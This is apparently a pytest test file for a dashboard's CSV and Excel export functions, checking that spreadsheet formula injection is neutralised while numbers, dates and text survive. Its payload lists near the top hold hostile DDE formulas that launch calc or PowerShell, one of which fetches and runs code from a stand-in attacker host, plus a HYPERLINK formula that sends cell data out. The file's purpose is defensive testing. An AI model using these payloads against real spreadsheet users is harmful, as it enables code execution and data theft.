"""Safe exports: formula injection neutralised, numbers stay numbers, Excel opens the
text correctly."""

from __future__ import annotations

import csv
import datetime as dt
import io
import math

import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from dashboard.exports import neutralise, safe_sheet_name, to_csv_bytes, to_excel_bytes
from tests.csv_readers import fields_read_with, live_formula

PAYLOADS = [
    "=1+1",
    "=HYPERLINK(\"http://contoh.invalid/?\"&A1,\"klik\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\n=1+1",
    "=cmd|'/C powershell IEX(wget attacker/x)'!A0",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_neutralise_prefixes_formulas(payload):
    out = neutralise(payload)
    assert out.startswith("'") and out.replace("'", "") == payload.replace("'", "")
    if not any(c in payload for c in ",;\t|\r\n"):
        assert out == "'" + payload


# ---------------------------------------------------------------- whatever the reader's separator

SEPARATED = [
    "Rapat koordinasi;=cmd|' /C calc'!A0;",  # the hostile tester's title, for Excel with ";" (Indonesian)
    "Rakor, =HYPERLINK(\"http://contoh.invalid\")", "a\t+1+cmd|' /C calc'!A0", "x|@SUM(1)", "baris\n=1+1",
    "baris\r-2+3", "a;\"=1+1\"", "a; \u00a0=1", "a;\t=1", 'dua "kutip";"=x"', "angka;-5;+62;1.5", "Rp 1.000,-",
    "sel\r\n@a", "=1;=2,=3\t=4|=5",
]


@pytest.mark.parametrize("sep", [",", ";", "\t", "|"])
def test_no_field_runs_a_formula_whatever_the_separator(sep):
    df = pd.DataFrame({"judul": SEPARATED, "nomor": range(len(SEPARATED)),
                       "lain": list(reversed(SEPARATED))})
    data = to_csv_bytes(df)
    assert [f for f in fields_read_with(data, sep) if live_formula(f)] == []
    # the payloads are there, neutralised, not dropped
    assert "Rapat koordinasi;'=cmd|' /C calc'!A0;" in fields_read_with(data, ",")


@pytest.mark.parametrize("sep", [";", "\t", "|"])
def test_a_signed_number_starting_a_row_cannot_join_the_next_cell(sep):
    """Read with ";", the row ``-5,1+cmd|...`` is one field: ``-5,1`` is a number in an
    Indonesian locale, and the rest a DDE call. A row starts with the first column, so
    there a signed number is written as text."""
    df = pd.DataFrame({"selisih": [-5, 3, -1.5], "judul": ["1+cmd|' /C calc'!A0", "ok", "2-HYPERLINK(1)"]})
    data = to_csv_bytes(df)
    assert [f for f in fields_read_with(data, sep) if live_formula(f)] == []
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert [r[0] for r in rows[1:]] == ["'-5.0", "3.0", "'-1.5"]  # as pandas writes them, signed ones as text


@given(cells=st.lists(st.text(alphabet=st.sampled_from(list("ab1-=+@,;\t|\r\n\" '\u00a0.")), max_size=14),
                      min_size=1, max_size=6),
       sep=st.sampled_from([",", ";", "\t", "|"]))
@settings(max_examples=300, deadline=None)
def test_prop_no_field_runs_a_formula_whatever_the_separator(cells, sep):
    df = pd.DataFrame({"a": cells, "b": list(reversed(cells))})
    assert [f for f in fields_read_with(to_csv_bytes(df), sep) if live_formula(f)] == []


@pytest.mark.parametrize("value", ["Rakor Pilkada", "", "-", "-5", "+62", "1.5", "-1.234,5", "12%", "1e5",
                                   "a=b", "email@contoh.id", "'=sudah"])
def test_neutralise_leaves_harmless_strings(value):
    assert neutralise(value) == value


@pytest.mark.parametrize("value", [1, -1, 2.5, -2.5, None, True, dt.date(2020, 1, 1)])
def test_neutralise_leaves_non_strings(value):
    assert neutralise(value) is value


def frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "judul": PAYLOADS[:4] + ["Rapat \u201ckoordinasi\u201d di caf\u00e9", None],
            "peserta": [10, -5, 0, 3, 7, 8],
            "skor": [0.5, -1.25, math.nan, 2.0, 3.5, 1.0],
            "tanggal": pd.to_datetime(["2020-02-27"] * 6),
            "campur": [1, "=x", None, -2.5, "-3", "ok"],
        }
    )


def test_csv_has_bom_and_round_trips_neutralised():
    data = to_csv_bytes(frame())
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["judul", "peserta", "skor", "tanggal", "campur"]
    assert [r[0] for r in rows[1:5]] == ["'" + p for p in PAYLOADS[:4]]
    assert rows[5][0] == "Rapat \u201ckoordinasi\u201d di caf\u00e9"
    assert [r[1] for r in rows[1:]] == ["10", "-5", "0", "3", "7", "8"]  # numbers untouched
    assert rows[2][2] == "-1.25" and rows[3][2] == ""
    assert rows[1][3] == "2020-02-27"
    assert [r[4] for r in rows[1:]] == ["1", "'=x", "", "-2.5", "-3", "ok"]


def test_csv_no_cell_starts_with_a_formula_character():
    df = pd.DataFrame({"x": PAYLOADS, "y": PAYLOADS[::-1]})
    rows = list(csv.reader(io.StringIO(to_csv_bytes(df).decode("utf-8-sig"), newline="")))
    for row in rows[1:]:
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell


def test_csv_header_is_neutralised_and_semicolon_option():
    df = pd.DataFrame({"=bahaya": ["a"], "b": [1]})
    text = to_csv_bytes(df, sep=";").decode("utf-8-sig")
    assert text.splitlines()[0] == "'=bahaya;b"
    assert "\r\n" in text


def test_csv_readable_by_pandas_with_numbers_as_numbers():
    back = pd.read_csv(io.BytesIO(to_csv_bytes(frame())), encoding="utf-8-sig")
    assert back["peserta"].tolist() == [10, -5, 0, 3, 7, 8]
    assert pd.api.types.is_integer_dtype(back["peserta"])
    assert pd.api.types.is_float_dtype(back["skor"])


def test_input_frame_is_not_modified():
    df = frame()
    before = df.copy()
    to_csv_bytes(df)
    to_excel_bytes(df)
    pd.testing.assert_frame_equal(df, before)


def load(data: bytes):
    return openpyxl.load_workbook(io.BytesIO(data)).active


def test_excel_cells_typed_and_neutralised():
    ws = load(to_excel_bytes(frame(), sheet_name="Kegiatan"))
    assert ws.title == "Kegiatan"
    rows = list(ws.iter_rows())
    assert [c.value for c in rows[0]] == ["judul", "peserta", "skor", "tanggal", "campur"]
    assert rows[0][0].font.bold
    assert ws.freeze_panes == "A2"
    for r, payload in zip(rows[1:5], PAYLOADS[:4], strict=True):
        assert r[0].value == "'" + payload
        assert r[0].data_type == "s"
    assert rows[5][0].value == "Rapat \u201ckoordinasi\u201d di caf\u00e9"
    assert rows[6][0].value is None
    assert [r[1].value for r in rows[1:]] == [10, -5, 0, 3, 7, 8]
    assert all(r[1].data_type == "n" for r in rows[1:])
    assert rows[3][2].value is None  # NaN -> empty
    assert rows[1][3].value == dt.datetime(2020, 2, 27)
    assert rows[1][3].is_date
    assert [r[4].value for r in rows[1:]] == [1, "'=x", None, -2.5, "-3", "ok"]


def test_excel_has_no_formula_cells():
    df = pd.DataFrame({"x": PAYLOADS, "y": [p.strip() for p in PAYLOADS]})
    ws = load(to_excel_bytes(df))
    for row in ws.iter_rows():
        for c in row:
            assert c.data_type != "f", c.value


def test_excel_illegal_characters_long_cells_timezones_and_odd_values():
    df = pd.DataFrame(
        {
            "teks": ["a\x00b\x07c\x1bd", "x" * 40_000, "baris\nbaru\ttab"],
            "waktu": pd.to_datetime(["2020-02-27 10:00"] * 3).tz_localize("Asia/Jakarta"),
            "nilai": [math.inf, -math.inf, 1.0],
            "lain": [dt.timedelta(hours=1), [1, 2], {"a": 1}],
        }
    )
    ws = load(to_excel_bytes(df))
    rows = list(ws.iter_rows(values_only=True))
    assert rows[1][0] == "abcd"
    assert len(rows[2][0]) == 32_767
    assert rows[3][0] == "baris\nbaru\ttab"
    assert rows[1][1] == dt.datetime(2020, 2, 27, 10, 0)  # local wall time
    assert rows[1][2] == "inf" and rows[3][2] == 1
    assert rows[2][3] == "[1, 2]"


def test_excel_duplicate_and_non_string_headers():
    df = pd.DataFrame([[1, 2, 3]], columns=["a", "a", 5])
    ws = load(to_excel_bytes(df))
    assert [c.value for c in next(ws.iter_rows())] == ["a", "a", "5"]


def test_empty_frame():
    df = pd.DataFrame({"a": pd.Series([], dtype=object), "b": pd.Series([], dtype=float)})
    assert to_csv_bytes(df).decode("utf-8-sig").strip() == "a,b"
    assert [c.value for c in next(load(to_excel_bytes(df)).iter_rows())] == ["a", "b"]


@pytest.mark.parametrize(
    "name,expected",
    [("Laporan [Juli]/2020: rakor*?", "Laporan Juli 2020 rakor"), ("", "Sheet1"), ("'x'", "x"),
     ("a" * 40, "a" * 31), ("???", "Sheet1")],
)
def test_safe_sheet_name(name, expected):
    assert safe_sheet_name(name) == expected


def test_categorical_and_string_dtypes():
    df = pd.DataFrame({"c": pd.Categorical(["=a", "b"]), "s": pd.array(["@x", None], dtype="string")})
    rows = list(csv.reader(io.StringIO(to_csv_bytes(df).decode("utf-8-sig"), newline="")))
    assert rows[1] == ["'=a", "'@x"] and rows[2] == ["b", ""]


def test_excel_text_is_stored_as_text_even_without_neutralisation(monkeypatch):
    """Defence in depth: the cell type is forced to text, so a string is never a formula."""
    import dashboard.exports as ex

    monkeypatch.setattr(ex, "neutralise", lambda v: v)
    ws = load(ex.to_excel_bytes(pd.DataFrame({"x": ["=1+1", "@A1"]})))
    cells = [r[0] for r in ws.iter_rows(min_row=2)]
    assert [c.value for c in cells] == ["=1+1", "@A1"]
    assert all(c.data_type == "s" for c in cells)
